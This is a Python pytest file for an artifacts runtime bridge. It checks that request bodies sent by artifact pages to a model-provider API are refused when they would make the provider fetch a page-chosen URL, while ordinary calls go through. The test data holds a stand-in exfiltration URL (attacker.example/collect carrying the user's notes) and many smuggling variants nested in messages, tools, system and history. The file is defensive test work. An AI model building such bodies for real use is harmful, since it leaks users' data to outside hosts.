"""Hostile: the Messages body an artifact sends through the bridge.

Who attacks: artifact code (a page the user opened, maybe imported). What it tries: to make the
model provider fetch a URL the page chose — carrying the page's data in it — without any
live-data grant: URL-sourced image/document blocks anywhere in the body (nested in tool
results, in documents, in ``system``), server tools (web search/fetch, code execution), MCP
servers, file ids. What must hold: such a body is refused before anything leaves, with a clear
error naming the block and what to do; ordinary claude.ai-style calls still go through as sent.
"""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest

from artifacts_runtime.bridge import BridgeError
from tests.fakes.messages_api import FakeMessagesAPI

from .model_support import _model_env, bridge, caller, config, service

__all__ = ["_model_env", "bridge", "caller", "config", "service"]

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
URL = "https://attacker.example/collect?data=the-users-secret-notes"


def user(*content: Any) -> dict[str, Any]:
    return {"role": "user", "content": list(content)}


def image_url(url: str = URL) -> dict[str, Any]:
    return {"type": "image", "source": {"type": "url", "url": url}}


def document_url(url: str = URL) -> dict[str, Any]:
    return {"type": "document", "source": {"type": "url", "url": url}}


def text(s: str) -> dict[str, Any]:
    return {"type": "text", "text": s}


TOOL_USE = {"type": "tool_use", "id": "toolu_01", "name": "lookup", "input": {"q": "x"}}


def round_trip(*result_content: Any) -> list[dict[str, Any]]:
    """A tool_use and its tool_result whose content is ``result_content``."""
    return [
        user(text("look it up")),
        {"role": "assistant", "content": [TOOL_USE]},
        user({"type": "tool_result", "tool_use_id": "toolu_01", "content": list(result_content)}),
    ]


def body(messages: list[dict[str, Any]] | None = None, **extra: Any) -> dict[str, Any]:
    return {"max_tokens": 100, "messages": messages or [user(text("hi"))], **extra}


# (case, body, words the error must hold: where, what, what to do)
REFUSED: list[tuple[str, dict[str, Any], tuple[str, ...]]] = [
    (
        "image url in a user message",
        body([user(text("what is this?"), image_url())]),
        ("messages[0].content[1]", "image source type 'url' is not allowed", "base64"),
    ),
    (
        "document url",
        body([user(document_url(), text("summarise"))]),
        ("messages[0].content[0]", "document source type 'url' is not allowed", "base64"),
    ),
    (
        "image url nested in a tool_result",
        body(round_trip(text("here"), image_url())),
        ("messages[2].content[0].content[1]", "image source type 'url'"),
    ),
    (
        "image url in a document's content source",
        body([user({"type": "document", "source": {"type": "content", "content": [image_url()]}})]),
        ("messages[0].content[0].source.content[0]", "image source type 'url'"),
    ),
    (
        "a file id (the account's uploaded files)",
        body([user({"type": "document", "source": {"type": "file", "file_id": "file_011"}})]),
        ("messages[0].content[0]", "document source type 'file' is not allowed"),
    ),
    (
        "url spelled in capitals",
        body([user({"type": "image", "source": {"type": "URL", "url": URL}})]),
        ("messages[0].content[0]", "image source type 'URL' is not allowed"),
    ),
    (
        "a url smuggled next to base64 data",
        body(
            [user({"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": PNG, "url": URL}})]
        ),
        ("messages[0].content[0].source", "'url'", "not allowed"),
    ),
    (
        "a document url in system",
        body(system=[text("be brief"), document_url()]),
        ("system[1]", "document", "text blocks"),
    ),
    (
        "web search server tool",
        body(tools=[{"type": "web_search_20250305", "name": "web_search", "max_uses": 5}]),
        ("tools[0]", "web_search_20250305", "server tool", "input_schema"),
    ),
    (
        "web fetch server tool",
        body(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]),
        ("tools[0]", "web_fetch_20250910"),
    ),
    (
        "code execution server tool",
        body(tools=[{"type": "code_execution_20250825", "name": "code_execution"}]),
        ("tools[0]", "code_execution_20250825"),
    ),
    (
        "a custom tool that carries a url key",
        body(tools=[{"name": "t", "input_schema": {"type": "object"}, "url": URL}]),
        ("tools[0]", "'url'", "not allowed"),
    ),
    (
        "mcp servers",
        body(mcp_servers=[{"type": "url", "url": URL, "name": "x"}]),
        ("mcp_servers", "not supported yet"),
    ),
    (
        "a server tool result replayed in history",
        body(
            [
                user(text("hi")),
                {
                    "role": "assistant",
                    "content": [
                        {"type": "web_fetch_tool_result", "tool_use_id": "srvtoolu_1", "content": {"url": URL}}
                    ],
                },
                user(text("go on")),
            ]
        ),
        ("messages[1].content[0]", "web_fetch_tool_result", "not allowed"),
    ),
    (
        "server_tool_use in history",
        body(
            [
                {
                    "role": "assistant",
                    "content": [{"type": "server_tool_use", "id": "s1", "name": "web_fetch", "input": {"url": URL}}],
                },
                user(text("go on")),
            ]
        ),
        ("messages[0].content[0]", "server_tool_use"),
    ),
    (
        "an unknown block type",
        body([user({"type": "web_page", "url": URL})]),
        ("messages[0].content[0]", "'web_page'", "not allowed"),
    ),
    (
        "a role that is not user or assistant",
        body([{"role": "system", "content": "x"}]),
        ("messages[0]", "role"),
    ),
    (
        "a thinking setting with extra keys",
        body(thinking={"type": "enabled", "budget_tokens": 1024, "url": URL}),
        ("thinking", "'url'"),
    ),
]


@pytest.mark.parametrize(("case", "sent", "words"), REFUSED, ids=[c for c, _, _ in REFUSED])
async def test_a_body_that_would_make_the_provider_fetch_is_refused(
    bridge, caller, messages_api: FakeMessagesAPI, case: str, sent: dict[str, Any], words: tuple[str, ...]
) -> None:
    with pytest.raises(BridgeError) as info:
        await bridge.call(caller, "claude.messages", {"body": copy.deepcopy(sent)})
    assert info.value.code == "invalid_request"
    for word in words:
        assert word in info.value.message, (case, info.value.message)
    assert messages_api.requests == []  # nothing left: no fetch, no data sent anywhere


async def test_complete_cannot_smuggle_blocks(bridge, caller, messages_api: FakeMessagesAPI) -> None:
    """window.claude.complete sends a string: a JSON-looking prompt stays text."""
    messages_api.reply("ok")
    prompt = json.dumps([image_url()])
    await bridge.call(caller, "claude.complete", {"prompt": prompt})
    assert messages_api.last_request.messages == [{"role": "user", "content": prompt}]


async def test_an_ordinary_claude_ai_call_goes_through_as_sent(bridge, caller, messages_api: FakeMessagesAPI) -> None:
    messages_api.reply("fine")
    ordinary = {
        "model": "claude-sonnet-4-20250514",
        "max_tokens": 200,
        "temperature": 0.2,
        "top_p": 0.9,
        "stop_sequences": ["\n\nHuman:"],
        "system": [{"type": "text", "text": "Be brief.", "cache_control": {"type": "ephemeral"}}],
        "tools": [
            {
                "name": "lookup",
                "description": "Look a word up",
                "input_schema": {"type": "object", "properties": {"q": {"type": "string"}}, "required": ["q"]},
            },
            {"type": "custom", "name": "web_search", "input_schema": {"type": "object"}},  # the page runs it
        ],
        "tool_choice": {"type": "auto"},
        "messages": [
            user(
                text("What is in these?"),
                {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": PNG}},
                {
                    "type": "document",
                    "source": {"type": "base64", "media_type": "application/pdf", "data": "JVBERi0xLjQK"},
                    "title": "report.pdf",
                    "citations": {"enabled": True},
                },
                {"type": "document", "source": {"type": "text", "media_type": "text/plain", "data": "plain notes"}},
            ),
            {"role": "assistant", "content": [text("Let me look."), TOOL_USE]},
            user(
                {
                    "type": "tool_result",
                    "tool_use_id": "toolu_01",
                    "content": [
                        text("found"),
                        {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": PNG}},
                    ],
                },
                text("and now?"),
            ),
            {"role": "assistant", "content": [{**TOOL_USE, "id": "toolu_02"}]},
            user({"type": "tool_result", "tool_use_id": "toolu_02", "content": "not found", "is_error": True}),
        ],
    }
    await bridge.call(caller, "claude.messages", {"body": copy.deepcopy(ordinary)})
    assert messages_api.last_request.body == ordinary


async def test_system_as_a_string_and_thinking_still_work(bridge, caller, messages_api: FakeMessagesAPI) -> None:
    messages_api.reply("ok")
    sent = body(system="You are terse.", thinking={"type": "enabled", "budget_tokens": 1024}, max_tokens=2000)
    await bridge.call(caller, "claude.messages", {"body": copy.deepcopy(sent)})
    got = messages_api.last_request.body
    assert got["system"] == "You are terse." and got["thinking"] == {"type": "enabled", "budget_tokens": 1024}
